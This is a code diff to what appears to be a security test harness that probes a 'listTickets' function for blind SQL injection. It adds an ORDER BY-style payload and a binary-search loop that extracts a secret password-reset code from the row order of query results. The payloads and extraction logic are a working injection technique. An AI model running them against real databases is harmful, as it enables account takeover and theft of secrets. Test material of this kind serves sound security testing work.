@@ -69,6 +69,8 @@ const questions = [
   (middle: number) => `(id * (SELECT reset_code - ${middle}.5 FROM users))`,
   (middle: number) => `(CASE WHEN EXISTS (SELECT 1 FROM users WHERE reset_code > ${middle}) THEN id ELSE -id END)`,
   (middle: number) => `(COALESCE((SELECT id FROM users WHERE reset_code > ${middle}), -1) * id)`,
+  // Words, brackets and commas are enough.
+  (middle: number) => `CASE WHEN EXISTS (SELECT 1 FROM users WHERE reset_code BETWEEN ${middle + 1} AND 1000000) THEN id ELSE 0 END, id DESC, title`,
 ]
 
 /** One question, asked with a code above and one below 500000: the order of the rows is the answer. */
@@ -90,9 +92,11 @@ export async function exploit({ listTickets }: Code, vary: Vary, payloads?: read
   const code = vary.number(100_000, 999_999)
   const [team, first] = [vary.number(3, 90), vary.number(1, 90)]
   const db = createPool(tables(code) + twins(team, first, vary.word()))
-  const ask = vary.pick(questions)
-  for (const form of vary.shuffle(forms)) {
+  for (const [form, ask] of vary.shuffle(forms.flatMap((form) => questions.map((ask) => [form, ask] as const)))) {
     try {
+      // Whatever the code is, it is above -1 and not above a million: code that tells no difference has no answers.
+      const [always, never] = [await listTickets(db, team, form(ask(-1))), await listTickets(db, team, form(ask(1_000_000)))]
+      if (always[0]?.id === never[0]?.id) continue
       let [low, high] = [0, 999_999]
       while (low < high) {
         const middle = Math.floor((low + high) / 2)
